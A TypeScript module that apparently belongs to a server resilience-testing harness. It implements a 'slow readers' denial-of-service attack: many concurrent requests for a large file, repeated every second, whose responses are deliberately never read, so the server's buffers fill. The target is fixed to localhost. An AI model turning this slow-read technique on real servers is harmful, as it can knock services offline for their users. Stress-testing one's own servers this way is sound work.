import { request } from 'node:http';
import { setTimeout as pause } from 'node:timers/promises';
import type { Attack, Target } from './attack';

const EACH = 10;

/** Asks for a large file many times, from every address, and hardly reads the answers. */
export const slowReaders: Attack = {
  name: 'slow readers',
  run: (target, note, signal) =>
    Promise.all(
      target.addresses.flatMap((address) =>
        Array.from({ length: EACH }, () => readSlowly(target, address, note, signal)),
      ),
    ),
};

async function readSlowly(
  { port, largeFile: path }: Target,
  localAddress: string,
  note: (status: number) => void,
  signal: AbortSignal,
): Promise<void> {
  while (!signal.aborted) {
    const status = await new Promise<number>((resolve) => {
      const asking = request({ port, host: '127.0.0.1', localAddress, path, agent: false }, (response) => {
        // Nothing of it is read: the answer waits in all buffers on the way.
        response.on('close', () => resolve(response.statusCode ?? 0));
        if (response.statusCode !== 200) response.resume();
      });
      asking.on('error', () => resolve(0));
      signal.addEventListener('abort', () => asking.destroy());
      asking.end();
    });
    if (signal.aborted) return;
    note(status);
    await pause(1_000, undefined, { signal }).catch(() => undefined);
  }
}
